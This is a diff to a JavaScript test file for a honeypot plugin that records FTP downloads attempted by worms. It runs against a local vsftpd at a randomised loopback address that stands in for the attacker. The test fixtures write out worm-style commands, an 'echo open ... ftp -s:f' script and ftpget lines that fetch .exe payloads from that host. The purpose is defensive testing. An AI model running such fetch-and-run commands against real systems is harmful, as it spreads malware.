@@ -1,7 +1,7 @@
 // Tests for ftp-download, run by `honeytrap-plugin test` with node:test. The
 // plugin runs in the daemon's own worker engine and fetches through the
 // daemon's own network broker (allowPrivateNetwork) from a real vsftpd this
-// file starts on 127.0.0.3:21, the "attacker" (anonymous logins only: any
+// file starts on port 21 of a loopback address, the "attacker" (anonymous logins only: any
 // other user is refused with 530, which the tests use as a failure).
 import assert from 'node:assert/strict';
 import { execFileSync, spawn } from 'node:child_process';
@@ -15,7 +15,8 @@ import { fileURLToPath } from 'node:url';
 import { attackFixture, loadPlugin } from '@honeytrap/sdk';
 
 const dir = fileURLToPath(new URL('..', import.meta.url));
-const ATTACKER = '127.0.0.3';
+/** A loopback address of its own, so that two runs of these tests do not meet on the same port. */
+const ATTACKER = `127.${1 + Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 256)}.${2 + Math.floor(Math.random() * 250)}`;
 
 /** A Windows console program's headers (PE32, Intel 80386), as a worm fetches with ftp -s. */
 const EXE = Buffer.alloc(2048, 0x90);
@@ -151,7 +152,7 @@ test('failures are recorded: login refused, no such file, nothing listening, a h
     `echo open ${ATTACKER} 21 > f & echo user 1 1 >> f & echo get x.exe >> f & ftp -n -s:f`,
     `ftpget ${ATTACKER} missing.exe`,
     `ftpget -P 2121 ${ATTACKER} x.exe`,
-    'ftpget 127.0.0.4 x.exe',
+    'ftpget 127.0.0.1 x.exe',
   ].join('\n');
   const out = await run(received, { config: { timeoutMs: 3000 } });
   const byUrl = Object.fromEntries(out.findings.map((f) => [f.value, f.meta]));
@@ -170,7 +171,7 @@ test('failures are recorded: login refused, no such file, nothing listening, a h
   assert.equal(closed.status, 'failed');
   assert.equal(closed.errorCode, 'HT_PLUGIN_NETWORK');
 
-  const other = byUrl['ftp://127.0.0.4/x.exe'];
+  const other = byUrl['ftp://127.0.0.1/x.exe'];
   assert.equal(other.status, 'refused');
   assert.equal(other.errorCode, 'HT_PLUGIN_DENIED');
 });
